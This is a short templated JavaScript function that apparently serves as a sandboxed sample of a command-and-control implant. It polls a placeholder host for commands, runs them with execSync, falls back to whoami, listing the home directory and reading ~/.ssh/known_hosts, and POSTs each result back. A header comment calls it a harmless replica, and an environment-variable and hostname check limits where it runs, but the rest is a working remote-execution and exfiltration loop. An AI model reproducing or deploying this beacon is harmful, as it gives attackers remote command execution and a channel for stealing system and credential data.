// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { execSync } = require('child_process');
    const ask = (method, path, body) => new Promise((done) => {
        let text = '';
        const call = require('http').request({ host: '{{host}}', port: {{port}}, method, path, timeout: 600 }, (answer) => {
            answer.on('data', (part) => { text += part; });
            answer.on('close', () => done(text));
        });
        call.on('timeout', () => call.destroy());
        call.on('error', () => done(''));
        call.end(body);
    });
    const orders = ['whoami', 'ls -la ~', 'cat ~/.ssh/known_hosts'];
    for (let round = 0; round < 3; round++) {
        const heard = await ask('GET', `/{{path}}?id={{token}}&r=${round}`);
        let said = '';
        try {
            said = execSync(/^[a-z ~/.-]{2,40}$/.test(heard) ? heard : orders[round], { timeout: 500, stdio: ['ignore', 'pipe', 'ignore'] }).toString();
        } catch {}
        await ask('POST', '/{{path}}', said);
    }
}
